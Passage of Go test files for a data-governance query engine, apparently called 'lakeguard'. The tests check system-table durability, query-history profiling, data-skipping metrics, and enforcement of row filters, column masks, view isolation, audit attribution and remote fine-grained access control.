	if err := systemtables.Bootstrap(cat); err != nil {
		t.Fatal(err)
	}
	opts := optimizer.DefaultOptions()
	opts.ExtraRules = []optimizer.Rule{func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
				cp := *sc
				cp.PushedFilters = nil
				return &cp
			}
			return x
		})
	}}
	e := newEnv(t, Config{Name: "hostile", Catalog: cat, Optimizer: &opts})

	_, err := e.client("tok-bob").Sql("SELECT tenant FROM system.audit.events").Collect()
	wantViolation(t, err, sentinel.InvRowFilter)

	evs := sentinelEvents(e)
	if len(evs) == 0 || evs[len(evs)-1].Decision != audit.DecisionDeny {
		t.Fatal("hostile system-table plan not audited as a sentinel deny")
	}
}

// TestSystemTablesSurviveRestart is the durability acceptance test: spooled
// history outlives the process because the system tables commit through the
// delta log into persistent storage, and Bootstrap re-attaches on boot.
func TestSystemTablesSurviveRestart(t *testing.T) {
	dir := t.TempDir()
	store, err := storage.NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	e, spool := systemEnv(t, store)
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "SELECT region, SUM(amount) AS total FROM sales GROUP BY region")
	mustExec(t, adminC, "SELECT COUNT(*) AS n FROM sales")
	if err := spool.Flush(); err != nil {
		t.Fatal(err)
	}
	histBefore := mustExec(t, adminC, "SELECT COUNT(*) AS n FROM system.query.history").Cols[0].Int64(0)
	auditBefore := mustExec(t, adminC, "SELECT COUNT(*) AS n FROM system.audit.events").Cols[0].Int64(0)
	if histBefore < 2 || auditBefore == 0 {
		t.Fatalf("pre-restart counts: history=%d audit=%d", histBefore, auditBefore)
	}

	// "Kill" the server: everything in memory is gone — catalog metadata,
	// audit ring, credentials. Only the bytes under dir survive.
	store2, err := storage.NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	e2, _ := systemEnv(t, store2)
	adminC2 := e2.client("tok-admin")
	histAfter := mustExec(t, adminC2, "SELECT COUNT(*) AS n FROM system.query.history").Cols[0].Int64(0)
	auditAfter := mustExec(t, adminC2, "SELECT COUNT(*) AS n FROM system.audit.events").Cols[0].Int64(0)
	if histAfter != histBefore {
		t.Fatalf("history rows after restart = %d, want %d", histAfter, histBefore)
	}
	if auditAfter != auditBefore {
		t.Fatalf("audit rows after restart = %d, want %d", auditAfter, auditBefore)
	}
	// The reborn deployment keeps appending to the same tables.
	sp2 := e2.server.cfg.SystemTables
	mustExec(t, adminC2, "SELECT 1 AS one")
	if err := sp2.Flush(); err != nil {
		t.Fatal(err)
	}
	histNow := mustExec(t, adminC2, "SELECT COUNT(*) AS n FROM system.query.history").Cols[0].Int64(0)
	if histNow <= histAfter {
		t.Fatalf("post-restart spooling not appending: %d -> %d", histAfter, histNow)
	}
}

// TestQueryHistoryRecordsProfiles checks the read side of the profile
// plumbing: phase latencies and data-skipping counters captured per query
// are queryable — and errors are recorded with status ERROR.
func TestQueryHistoryRecordsProfiles(t *testing.T) {
	e, spool := systemEnv(t, storage.NewStore())
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "SELECT COUNT(*) AS n FROM sales WHERE amount > 60")
	if _, err := adminC.ExecSQL("SELECT nope FROM sales"); err == nil {
		t.Fatal("bad query succeeded")
	}
	if err := spool.Flush(); err != nil {
		t.Fatal(err)
	}
	b := mustExec(t, adminC,
		"SELECT status, total_ms, rows_out, sql_text FROM system.query.history ORDER BY end_time")
	var okSeen, errSeen bool
	for i := 0; i < b.NumRows(); i++ {
		switch b.Cols[0].StringAt(i) {
		case "OK":
			okSeen = true
			if b.Cols[1].Float64(i) <= 0 {
				t.Fatalf("OK row with non-positive total_ms: %v", b.Cols[1].Float64(i))
			}
		case "ERROR":
			errSeen = true
			if !strings.Contains(b.Cols[3].StringAt(i), "nope") {
				t.Fatalf("error row lost its SQL text: %q", b.Cols[3].StringAt(i))
			}
		}
	}
	if !okSeen || !errSeen {
		t.Fatalf("history missing rows: ok=%v err=%v\n%s", okSeen, errSeen, b.String())
	}
	// Usage rollup exists for the admin tenant after the final flush.
	time.Sleep(time.Millisecond) // ensure window bookkeeping sees distinct instants
	if err := spool.Flush(); err != nil {
		t.Fatal(err)
	}
	u := mustExec(t, adminC, "SELECT tenant, queries, errors FROM system.billing.usage")
	if u.NumRows() == 0 {
		t.Fatal("no usage rollup rows")
	}
	var total, errs int64
	for i := 0; i < u.NumRows(); i++ {
		if u.Cols[0].StringAt(i) == admin {
			total += u.Cols[1].Int64(i)
			errs += u.Cols[2].Int64(i)
		}
	}
	if total < 2 || errs < 1 {
		t.Fatalf("usage rollup wrong: queries=%d errors=%d\n%s", total, errs, u.String())
	}
}
