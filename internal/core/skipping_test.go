package core

import (
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
)

// Data skipping end to end: a selective predicate over a clustered multi-file
// table prunes files, EXPLAIN ANALYZE reports the scan/prune split, and the
// cache counters land on the /metrics registry.
func TestSkippingObservableViaExplainAnalyzeAndMetrics(t *testing.T) {
	m := telemetry.NewRegistry()
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	cat.SetMetrics(m)
	e := newEnv(t, Config{Name: "std", Catalog: cat, Metrics: m})
	c := e.client("tok-admin")

	// Each INSERT commits one data file; ids are clustered per file.
	mustExec(t, c, "CREATE TABLE clustered (id BIGINT, v BIGINT)")
	for f := 0; f < 6; f++ {
		var rows []string
		for r := 0; r < 4; r++ {
			id := f*4 + r
			rows = append(rows, fmt.Sprintf("(%d, %d)", id, id*7))
		}
		mustExec(t, c, "INSERT INTO clustered VALUES "+strings.Join(rows, ", "))
	}

	query := "SELECT SUM(v) AS s FROM clustered WHERE id >= 8 AND id < 12"
	analyze, rows, err := c.SqlExplainAnalyze(query)
	if err != nil {
		t.Fatal(err)
	}
	if rows != 1 {
		t.Fatalf("aggregate query returned %d rows", rows)
	}
	if !strings.Contains(analyze, "files 1 (pruned 5)") {
		t.Fatalf("EXPLAIN ANALYZE must report the scan/prune split:\n%s", analyze)
	}

	if got := m.Counter("scan.files.pruned").Value(); got < 5 {
		t.Fatalf("scan.files.pruned = %d, want >= 5", got)
	}
	if m.Counter("scan.files.scanned").Value() == 0 {
		t.Fatal("scan.files.scanned never counted")
	}
	if m.Counter("snapshot.cache.hit").Value() == 0 {
		t.Fatal("repeated snapshot opens must hit the snapshot cache")
	}
	// Re-run the same query: the surviving file's decoded batch is now cached.
	if _, err := c.Sql(query).Collect(); err != nil {
		t.Fatal(err)
	}
	if m.Counter("batch.cache.hits").Value() == 0 {
		t.Fatal("repeat query must hit the batch cache")
	}

	// The same counters are visible on the /metrics endpoint.
	rec := httptest.NewRecorder()
	m.ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	body := rec.Body.String()
	for _, name := range []string{"scan.files.pruned", "scan.files.scanned", "snapshot.cache.hit", "batch.cache.hits", "storage.get_saved"} {
		if !strings.Contains(body, name) {
			t.Errorf("/metrics missing %q", name)
		}
	}
}

// A filter that the zone maps cannot prune (predicate covers every file) must
// still return correct results with skipping enabled — and report pruned 0.
func TestSkippingNoOpWhenPredicateCoversAllFiles(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	analyze, _, err := c.SqlExplainAnalyze("SELECT COUNT(*) AS n FROM sales WHERE amount > 0")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(analyze, "(pruned 0)") {
		t.Fatalf("covering predicate must prune nothing:\n%s", analyze)
	}
	b := mustExec(t, c, "SELECT COUNT(*) AS n FROM sales WHERE amount > 0")
	if v := b.Row(0)[0]; v.I != 6 {
		t.Fatalf("got %d rows counted, want 6", v.I)
	}
}
