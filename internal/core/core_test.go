package core

import (
	"net/http/httptest"
	"strings"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/plan"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

const (
	admin = "admin@corp.com"
	alice = "alice@corp.com"
	bob   = "bob@corp.com"
)

var tokens = connect.TokenMap{
	"tok-admin": admin,
	"tok-alice": alice,
	"tok-bob":   bob,
}

// env is a full deployment: catalog + standard cluster + Connect endpoint.
type env struct {
	cat     *catalog.Catalog
	server  *Server
	service *connect.Service
	http    *httptest.Server
}

func newEnv(t *testing.T, cfg Config) *env {
	t.Helper()
	if cfg.Catalog == nil {
		cfg.Catalog = catalog.New(storage.NewStore(), nil)
		cfg.Catalog.AddAdmin(admin)
	}
	if cfg.Compute == "" {
		cfg.Compute = catalog.ComputeStandard
	}
	server := NewServer(cfg)
	service := connect.NewService(server, tokens)
	ts := httptest.NewServer(service.Handler())
	t.Cleanup(ts.Close)
	return &env{cat: cfg.Catalog, server: server, service: service, http: ts}
}

func (e *env) client(token string) *connect.Client {
	return connect.Dial(e.http.URL, token)
}

func mustExec(t *testing.T, c *connect.Client, sql string) *types.Batch {
	t.Helper()
	b, err := c.ExecSQL(sql)
	if err != nil {
		t.Fatalf("ExecSQL(%q): %v", sql, err)
	}
	return b
}

func seedSales(t *testing.T, c *connect.Client) {
	t.Helper()
	mustExec(t, c, "CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)")
	mustExec(t, c, `INSERT INTO sales VALUES
		(100, CAST('2024-12-01' AS DATE), 'ann', 'US'),
		(200, CAST('2024-12-01' AS DATE), 'ben', 'EU'),
		(50,  CAST('2024-12-02' AS DATE), 'ann', 'US'),
		(75,  CAST('2024-12-01' AS DATE), 'cat', 'US'),
		(300, CAST('2024-12-02' AS DATE), 'ben', 'EU'),
		(25,  CAST('2024-12-01' AS DATE), 'dan', 'APAC')`)
}

func TestEndToEndSQLOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	b, err := c.Sql("SELECT region, SUM(amount) AS total FROM sales GROUP BY region ORDER BY total DESC").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 3 || b.Cols[0].StringAt(0) != "EU" || b.Cols[1].Float64(0) != 500 {
		t.Fatalf("result:\n%s", b.String())
	}
}

func TestDataFrameAPIOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)

	df := c.Table("sales").
		Where(connect.Col("region").Eq(connect.Lit("US"))).
		GroupBy("seller").
		Agg(connect.Sum(connect.Col("amount")).As("total")).
		OrderBy(connect.Col("total").Desc()).
		Limit(10)
	b, err := df.Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 2 || b.Cols[0].StringAt(0) != "ann" || b.Cols[1].Float64(0) != 150 {
		t.Fatalf("dataframe result:\n%s", b.String())
	}

	n, err := c.Table("sales").Count()
	if err != nil || n != 6 {
		t.Fatalf("count = %d, %v", n, err)
	}

	schema, err := c.Table("sales").Select("amount", "seller").Schema()
	if err != nil || schema.Len() != 2 || schema.Fields[0].Kind != types.KindFloat64 {
		t.Fatalf("schema = %v, %v", schema, err)
	}
}

func TestJoinAndLocalDataOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	quotas := c.CreateDataFrame(
		types.NewSchema(
			types.Field{Name: "seller", Kind: types.KindString},
			types.Field{Name: "quota", Kind: types.KindFloat64},
		),
		[][]types.Value{
			{types.String("ann"), types.Float64(120)},
			{types.String("ben"), types.Float64(400)},
		},
	).Alias("q")
	got, err := c.Table("sales").Alias("s").
		Join(quotas, connect.Col("s.seller").Eq(connect.Col("q.seller")), "inner").
		Select("s.seller", "q.quota").Distinct().
		OrderBy(connect.Col("quota").Asc()).
		Collect()
	if err != nil {
		t.Fatal(err)
	}
	if got.NumRows() != 2 || got.Cols[1].Float64(0) != 120 {
		t.Fatalf("join result:\n%s", got.String())
	}
}

func TestSessionUDFOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	err := c.RegisterFunction("to_eur",
		[]types.Field{{Name: "usd", Kind: types.KindFloat64}},
		types.KindFloat64, "return usd * 0.9")
	if err != nil {
		t.Fatal(err)
	}
	b, err := c.Sql("SELECT to_eur(amount) AS eur FROM sales WHERE seller = 'ann' ORDER BY eur").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 2 || b.Cols[0].Float64(0) != 45 {
		t.Fatalf("udf result:\n%s", b.String())
	}
	// UDF ran through the sandbox layer.
	if e.server.Dispatcher().Stats().ColdStarts == 0 {
		t.Error("UDF bypassed the sandbox")
	}
	// Another session cannot see the function.
	c2 := e.client("tok-admin")
	if _, err := c2.Sql("SELECT to_eur(amount) FROM sales").Collect(); err == nil {
		t.Error("session UDF leaked across sessions")
	}
}

func TestTempViewIsolationBetweenUsers(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := e.client("tok-alice")
	if err := aliceC.Table("sales").Where(connect.Col("region").Eq(connect.Lit("US"))).CreateTempView("my_us"); err != nil {
		t.Fatal(err)
	}
	n, err := aliceC.Table("my_us").Count()
	if err != nil || n != 3 {
		t.Fatalf("alice temp view count = %d, %v", n, err)
	}
	// Bob cannot see alice's temp view.
	bobC := e.client("tok-bob")
	if _, err := bobC.Table("my_us").Collect(); err == nil {
		t.Error("temp view leaked across users")
	}
}

func TestRowFilterAndMaskOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'' OR IS_ACCOUNT_GROUP_MEMBER(''execs'')'")
	mustExec(t, adminC, "ALTER TABLE sales ALTER COLUMN seller SET MASK 'CASE WHEN IS_ACCOUNT_GROUP_MEMBER(''hr'') THEN seller ELSE ''***'' END'")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := e.client("tok-alice")
	b, err := aliceC.Table("sales").Select("seller", "region").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 3 {
		t.Fatalf("row filter: %d rows\n%s", b.NumRows(), b.String())
	}
	for i := 0; i < b.NumRows(); i++ {
		if b.Cols[0].StringAt(i) != "***" {
			t.Fatalf("mask bypassed over the wire:\n%s", b.String())
		}
		if b.Cols[1].StringAt(i) != "US" {
			t.Fatalf("row filter bypassed:\n%s", b.String())
		}
	}
}

func TestExplainRedactionOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''SECRETLAND'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")
	aliceC := e.client("tok-alice")
	explain, err := aliceC.Table("sales").Explain()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(explain, "SECRETLAND") {
		t.Errorf("policy literal leaked in EXPLAIN:\n%s", explain)
	}
	if !strings.Contains(explain, "SecureView") || !strings.Contains(explain, "<redacted>") {
		t.Errorf("explain missing redaction marker:\n%s", explain)
	}
}

func TestViewsAndMaterializedViewsOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "CREATE VIEW us_sales AS SELECT seller, amount FROM sales WHERE region = 'US'")
	mustExec(t, adminC, "GRANT SELECT ON us_sales TO 'alice@corp.com'")
	aliceC := e.client("tok-alice")
	n, err := aliceC.Table("us_sales").Count()
	if err != nil || n != 3 {
		t.Fatalf("view count = %d, %v", n, err)
	}
	// Base table still denied.
	if _, err := aliceC.Table("sales").Collect(); err == nil {
		t.Error("base table should be denied")
	}

	mustExec(t, adminC, "CREATE MATERIALIZED VIEW region_totals AS SELECT region, SUM(amount) AS total FROM sales GROUP BY region")
	// Unrefreshed MV fails.
	if _, err := adminC.Table("region_totals").Collect(); err == nil {
		t.Error("unrefreshed MV should fail")
	}
	mustExec(t, adminC, "REFRESH MATERIALIZED VIEW region_totals")
	b, err := adminC.Sql("SELECT * FROM region_totals ORDER BY total DESC").Collect()
	if err != nil || b.NumRows() != 3 || b.Cols[1].Float64(0) != 500 {
		t.Fatalf("mv result: %v\n%s", err, b)
	}
}

func TestCatalogUDFOverWire(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "CREATE FUNCTION redact_half(s STRING) RETURNS STRING AS 'return substr(s, 0, 1) + ''***'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")
	aliceC := e.client("tok-alice")
	// EXECUTE required.
	if _, err := aliceC.Sql("SELECT redact_half(seller) FROM sales").Collect(); err == nil {
		t.Fatal("missing EXECUTE should fail")
	}
	mustExec(t, adminC, "GRANT EXECUTE ON redact_half TO 'alice@corp.com'")
	b, err := aliceC.Sql("SELECT redact_half(seller) AS r FROM sales WHERE seller = 'ann' LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].StringAt(0) != "a***" {
		t.Fatalf("cataloged udf result: %q", b.Cols[0].StringAt(0))
	}
}

func TestDedicatedClusterSingleIdentity(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	e := newEnv(t, Config{Name: "ded", Compute: catalog.ComputeDedicated, Catalog: cat})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	// First identity pins the cluster.
	aliceDenied := e.client("tok-alice")
	if _, err := aliceDenied.Sql("SELECT 1").Collect(); err == nil || !strings.Contains(err.Error(), "dedicated") {
		t.Fatalf("second identity should be rejected: %v", err)
	}
}

func TestDedicatedGroupClusterDownScoping(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	cat.CreateGroup("ml_team", alice, bob)
	e := newEnv(t, Config{Name: "dedg", Compute: catalog.ComputeDedicated, Catalog: cat, GroupScope: "ml_team"})

	// Seed via a separate standard cluster (admin is not in the group).
	std := newEnv(t, Config{Name: "std", Catalog: cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "CREATE TABLE secrets (x STRING)")
	// Alice personally has access to secrets, but the group does not.
	mustExec(t, adminC, "GRANT SELECT ON secrets TO 'alice@corp.com'")
	mustExec(t, adminC, "GRANT SELECT ON sales TO ml_team")

	aliceC := e.client("tok-alice")
	// Group members share the dedicated cluster.
	if _, err := aliceC.Table("sales").Collect(); err != nil {
		t.Fatalf("group member query: %v", err)
	}
	bobC := e.client("tok-bob")
	if _, err := bobC.Table("sales").Collect(); err != nil {
		t.Fatalf("second group member: %v", err)
	}
	// Down-scoping: alice's personal grant on secrets is inert here.
	if _, err := aliceC.Table("secrets").Collect(); err == nil {
		t.Error("down-scoping failed: personal grant used on group cluster")
	}
	// Non-member rejected.
	cat2 := e.client("tok-admin")
	if _, err := cat2.Sql("SELECT 1").Collect(); err == nil || !strings.Contains(err.Error(), "member") {
		t.Fatalf("non-member: %v", err)
	}
}

func TestCurrentUserIdentityRetainedOnGroupCluster(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	cat.CreateGroup("ml_team", alice, bob)
	e := newEnv(t, Config{Name: "dedg", Compute: catalog.ComputeDedicated, Catalog: cat, GroupScope: "ml_team"})
	aliceC := e.client("tok-alice")
	b, err := aliceC.Sql("SELECT CURRENT_USER() AS u").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].StringAt(0) != alice {
		t.Errorf("CURRENT_USER = %q (identity lost under down-scoping)", b.Cols[0].StringAt(0))
	}
}

func TestAuditAttributionPerUser(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")
	aliceC := e.client("tok-alice")
	if _, err := aliceC.Table("sales").Collect(); err != nil {
		t.Fatal(err)
	}
	bobC := e.client("tok-bob")
	_, _ = bobC.Table("sales").Collect() // denied

	events := e.cat.Audit().ByUser(alice)
	if len(events) == 0 {
		t.Fatal("no audit events for alice")
	}
	denied := false
	for _, ev := range e.cat.Audit().Denials() {
		if ev.User == bob {
			denied = true
		}
	}
	if !denied {
		t.Error("bob's denial not audited")
	}
}

func TestSessionMigration(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	a := newEnv(t, Config{Name: "a", Catalog: cat})
	bsrv := NewServer(Config{Name: "b", Catalog: cat})
	adminC := a.client("tok-admin")
	seedSales(t, adminC)
	if err := adminC.Table("sales").CreateTempView("tv"); err != nil {
		t.Fatal(err)
	}

	// Migrate the session from cluster a to cluster b.
	sessionID := admin + "/" + adminC.SessionID()
	snap, ok := a.server.ExportSession(sessionID)
	if !ok {
		t.Fatal("session not found for export")
	}
	if err := bsrv.ImportSession(sessionID, snap); err != nil {
		t.Fatal(err)
	}
	// The temp view works on the new backend.
	service := connect.NewService(bsrv, tokens)
	ts := httptest.NewServer(service.Handler())
	defer ts.Close()
	migrated := connect.DialSession(ts.URL, "tok-admin", adminC.SessionID())
	n, err := migrated.Table("tv").Count()
	if err != nil || n != 6 {
		t.Fatalf("migrated session count = %d, %v", n, err)
	}
}

func TestInsertFromDataFrame(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE us_archive (amount DOUBLE, seller STRING)")
	err := c.Table("sales").
		Where(connect.Col("region").Eq(connect.Lit("US"))).
		Select("amount", "seller").
		InsertInto("us_archive")
	if err != nil {
		t.Fatal(err)
	}
	n, err := c.Table("us_archive").Count()
	if err != nil || n != 3 {
		t.Fatalf("archive count = %d, %v", n, err)
	}
}

func TestWrongTokenAndBadSQL(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	bad := e.client("tok-nope")
	if _, err := bad.Sql("SELECT 1").Collect(); err == nil {
		t.Error("invalid token accepted")
	}
	c := e.client("tok-admin")
	if _, err := c.ExecSQL("SELEC x FORM y"); err == nil {
		t.Error("bad SQL accepted")
	}
}

// --- eFGAC: dedicated -> serverless ---

// newEFGACWorld wires a dedicated cluster whose remote executor submits to a
// serverless cluster over the Connect protocol (paper Fig. 8 / §3.4).
func newEFGACWorld(t *testing.T, spillThreshold int) (*env, *env, *EFGACClient) {
	t.Helper()
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)

	serverless := newEnv(t, Config{
		Name: "serverless", Compute: catalog.ComputeServerless, Catalog: cat,
		SpillThreshold: spillThreshold,
	})
	tokenFor := map[string]string{admin: "tok-admin", alice: "tok-alice", bob: "tok-bob"}
	efgac := &EFGACClient{
		Dial: func(user, sessionID string) *connect.Client {
			return connect.Dial(serverless.http.URL, tokenFor[user])
		},
		Cat:   cat,
		Store: cat.Store(),
	}
	dedicated := newEnv(t, Config{
		Name: "dedicated", Compute: catalog.ComputeDedicated, Catalog: cat, Remote: efgac,
	})
	return dedicated, serverless, efgac
}

func TestEFGACEndToEnd(t *testing.T) {
	dedicated, _, efgac := newEFGACWorld(t, 0)
	// Seed via a standard cluster.
	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := dedicated.client("tok-alice")
	b, err := aliceC.Sql("SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'").Collect()
	if err != nil {
		t.Fatal(err)
	}
	// US rows on 2024-12-01: ann(100), cat(75).
	if b.NumRows() != 2 {
		t.Fatalf("eFGAC rows = %d\n%s", b.NumRows(), b.String())
	}
	rq, _ := efgac.Stats()
	if rq == 0 {
		t.Error("no remote query recorded")
	}
	// The dedicated plan shows a RemoteScan and no policy internals.
	explain, err := aliceC.Sql("SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'").Explain()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(explain, "RemoteScan") {
		t.Errorf("expected RemoteScan in plan:\n%s", explain)
	}
	if strings.Contains(explain, "US") {
		t.Errorf("policy literal leaked to dedicated plan:\n%s", explain)
	}
	// Pushdowns made it into the remote scan.
	if !strings.Contains(explain, "filters=") || !strings.Contains(explain, "project=") {
		t.Errorf("pushdowns missing:\n%s", explain)
	}
}

func TestEFGACEquivalenceWithStandard(t *testing.T) {
	dedicated, _, _ := newEFGACWorld(t, 0)
	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'' OR seller = CURRENT_USER()'")
	mustExec(t, adminC, "ALTER TABLE sales ALTER COLUMN seller SET MASK 'upper(seller)'")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	queries := []string{
		"SELECT seller, amount FROM sales ORDER BY amount",
		"SELECT region, SUM(amount) AS t, COUNT(*) AS n FROM sales GROUP BY region ORDER BY t",
		"SELECT COUNT(*) AS n FROM sales WHERE amount > 60",
		"SELECT seller FROM sales WHERE date = '2024-12-01' ORDER BY seller LIMIT 2",
	}
	for _, q := range queries {
		viaStd, err := std.client("tok-alice").Sql(q).Collect()
		if err != nil {
			t.Fatalf("standard %q: %v", q, err)
		}
		viaDed, err := dedicated.client("tok-alice").Sql(q).Collect()
		if err != nil {
			t.Fatalf("dedicated %q: %v", q, err)
		}
		if viaStd.String() != viaDed.String() {
			t.Errorf("eFGAC divergence for %q:\nstandard:\n%s\ndedicated:\n%s", q, viaStd.String(), viaDed.String())
		}
	}
}

func TestEFGACSpillMode(t *testing.T) {
	dedicated, _, efgac := newEFGACWorld(t, 64) // tiny threshold forces spill
	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := dedicated.client("tok-alice")
	b, err := aliceC.Sql("SELECT seller, amount FROM sales ORDER BY amount").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 3 {
		t.Fatalf("spilled result rows = %d\n%s", b.NumRows(), b.String())
	}
	if _, spilled := efgac.Stats(); spilled == 0 {
		t.Error("spill path not exercised")
	}
}

func TestEFGACPartialAggregatePushdown(t *testing.T) {
	dedicated, _, _ := newEFGACWorld(t, 0)
	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region <> ''APAC'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := dedicated.client("tok-alice")
	q := "SELECT region, SUM(amount) AS total FROM sales GROUP BY region ORDER BY total DESC"
	explain, err := aliceC.Sql(q).Explain()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(explain, "partialAgg=") {
		t.Errorf("partial aggregate not pushed:\n%s", explain)
	}
	b, err := aliceC.Sql(q).Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 2 || b.Cols[1].Float64(0) != 500 {
		t.Fatalf("partial agg result:\n%s", b.String())
	}
}

func TestRemoteScanSQLRendering(t *testing.T) {
	rs := &plan.RemoteScan{
		Relation:         "main.default.sales",
		PushedProjection: []string{"amount", "seller"},
		PushedFilters:    []plan.Expr{plan.Eq(plan.Col("region"), plan.Lit(types.String("US")))},
		PushedLimit:      5,
	}
	got := RenderRemoteSQL(rs)
	want := "SELECT amount, seller FROM main.default.sales WHERE (region = 'US') LIMIT 5"
	if got != want {
		t.Errorf("rendered = %q, want %q", got, want)
	}
	agg := &plan.RemoteScan{
		Relation: "t",
		PushedAggregate: &plan.RemoteAggregate{
			GroupBy: []string{"region"},
			Aggs:    []string{"SUM(amount) AS __partial0"},
		},
		PushedLimit: -1,
	}
	got2 := RenderRemoteSQL(agg)
	want2 := "SELECT region, SUM(amount) AS __partial0 FROM t GROUP BY region"
	if got2 != want2 {
		t.Errorf("rendered = %q, want %q", got2, want2)
	}
	bare := &plan.RemoteScan{Relation: "t", PushedLimit: -1}
	if RenderRemoteSQL(bare) != "SELECT * FROM t" {
		t.Errorf("bare = %q", RenderRemoteSQL(bare))
	}
}
