package core

import (
	"strings"
	"testing"

	"lakeguard/internal/catalog"
)

// ABAC (paper §2.3): one metastore-level policy per attribute tag governs
// every column carrying the tag, across all tables.

func setupABAC(t *testing.T) (*env, *catalog.Catalog) {
	t.Helper()
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE contacts (name STRING, email STRING, phone STRING)")
	mustExec(t, c, "INSERT INTO contacts VALUES ('ann', 'ann@x.com', '555-0001'), ('ben', 'ben@x.com', '555-0002')")
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	mustExec(t, c, "GRANT SELECT ON contacts TO 'alice@corp.com'")
	// Tag PII columns on two different tables.
	mustExec(t, c, "ALTER TABLE sales ALTER COLUMN seller SET TAGS ('pii')")
